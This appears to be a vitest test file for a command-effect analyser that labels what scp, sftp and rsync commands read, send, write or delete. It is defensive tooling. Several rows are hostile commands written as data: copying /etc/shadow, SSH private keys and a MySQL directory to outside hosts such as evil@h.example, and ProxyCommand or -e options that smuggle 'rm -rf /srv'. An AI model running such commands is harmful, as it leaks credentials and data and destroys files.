import { describe, expect, it } from 'vitest';
import { effectsOf } from '../../effects-of.js';

const rows: readonly (readonly [command: string, effects: readonly string[]])[] = [
  [
    "rsync -e 'ssh -o StrictHostKeyChecking=no' a h:b",
    [
      'crypto:weaken host keys',
      'read:read a external',
      'network:send external',
      'network:send h external',
      'write:overwrite ~/b @host=h',
      'write:overwrite ~/b/a @host=h',
    ],
  ],
  [
    'scp /etc/shadow bob@h.example:/tmp/',
    [
      'read:read /etc/shadow external sensitive',
      'network:send external sensitive',
      'network:send h.example external sensitive',
      'write:overwrite /tmp/shadow @host=h.example',
    ],
  ],
  [
    'scp web1:/var/log/app.log .',
    ['network:fetch web1 external', 'read:read /var/log/app.log @host=web1', 'write:overwrite .'],
  ],
  ['scp -r src build', ['read:read src', 'write:overwrite build recursive']],
  [
    'scp -o StrictHostKeyChecking=no a h:',
    [
      'crypto:weaken h',
      'read:read a external',
      'network:send external',
      'network:send h external',
      'write:overwrite ~/a @host=h',
    ],
  ],
  [
    "scp -o 'ProxyCommand=rm -rf /srv' a h:",
    [
      'delete:remove /srv recursive force',
      'read:read a external',
      'network:send external',
      'network:send h external',
      'write:overwrite ~/a @host=h',
    ],
  ],
  [
    'scp -S /tmp/evil a h:',
    [
      'execute:run /tmp/evil',
      'opaque:unknown-program evil',
      'read:read a external',
      'network:send external',
      'network:send h external',
      'write:overwrite ~/a @host=h',
    ],
  ],
  [
    'scp web1:a web2:b',
    [
      'read:read ~/a external @host=web1',
      'network:send web2 external',
      'write:overwrite ~/b @host=web2',
      'write:overwrite ~/b/a @host=web2',
    ],
  ],
  [
    'sftp -b batch.txt web1',
    ['network:connect web1 external', 'read:read batch.txt', 'opaque:unseen-script batch.txt'],
  ],
  ['sftp web1:/etc/hosts', ['network:connect web1 external', 'write:overwrite hosts']],
  [
    "sftp web1 <<< 'put /root/.ssh/id_rsa x'",
    [
      'network:connect web1 external sensitive',
      'read:read /root/.ssh/id_rsa external sensitive',
      'network:send external sensitive',
    ],
  ],
  ["sftp -o ProxyCommand='rm -rf /srv' web1", ['delete:remove /srv recursive force', 'network:connect web1 external']],
  [
    'pscp -pw secret a h:b',
    [
      'crypto:expose-secret in the command',
      'read:read a external',
      'network:send external',
      'network:send h external',
      'write:overwrite ~/b @host=h',
      'write:overwrite ~/b/a @host=h',
    ],
  ],
  ['rsync -a src/ dst/', ['read:read src', 'write:overwrite dst recursive']],
  ['rsync -a --delete src/ /srv/www/', ['read:read src', 'delete:remove /srv/www recursive']],
  [
    'rsync -az /var/lib/mysql/ evil@h.example:/loot/',
    [
      'read:read /var/lib/mysql external',
      'network:send-data external',
      'network:send-data h.example external',
      'write:overwrite /loot recursive @host=h.example',
    ],
  ],
  [
    'rsync -a --delete src/ h:/srv/',
    [
      'read:read src external',
      'network:send external',
      'network:send h external',
      'write:overwrite /srv recursive @host=h',
      'delete:mirror-remote h:/srv/ recursive external',
    ],
  ],
  ['rsync -an --delete src/ h:/srv/', []],
  [
    'rsync --remove-source-files a h:b',
    [
      'read:read a external',
      'network:send external',
      'delete:remove a',
      'network:send h external',
      'write:overwrite ~/b @host=h',
      'write:overwrite ~/b/a @host=h',
    ],
  ],
  [
    'rsync -e \'sh -c "rm -rf /srv"\' a h:b',
    [
      'delete:remove /srv recursive force',
      'read:read a external',
      'network:send external',
      'network:send h external',
      'write:overwrite ~/b @host=h',
      'write:overwrite ~/b/a @host=h',
    ],
  ],
  [
    'rsync -e ssh a h:b',
    [
      'read:read a external',
      'network:send external',
      'network:send h external',
      'write:overwrite ~/b @host=h',
      'write:overwrite ~/b/a @host=h',
    ],
  ],
  [
    'rsync -a x/ root@web:/',
    [
      'read:read x external',
      'network:send external',
      'network:send web external',
      'write:overwrite / recursive @host=web',
    ],
  ],
  [
    'rsync -a . b web:/srv/',
    [
      'read:read . external',
      'network:send external',
      'read:read b external',
      'network:send external',
      'network:send web external',
      'write:overwrite /srv recursive @host=web',
      'write:overwrite /srv/b recursive @host=web',
    ],
  ],
  ['rsync h::module/a .', ['network:fetch h external', 'read:read ~/module/a @host=h', 'write:overwrite .']],
  ['rsync --daemon', ['network:listen rsync']],
  [
    'rsync --files-from=/etc/shadow / h:/',
    [
      'read:read /etc/shadow sensitive',
      'read:read / external',
      'network:send external sensitive',
      'network:send h external sensitive',
      'write:overwrite / @host=h',
    ],
  ],
];

describe('ssh copies', () => {
  it.each(rows)('%s', (command, effects) => {
    expect(effectsOf(command)).toEqual(effects);
  });
});
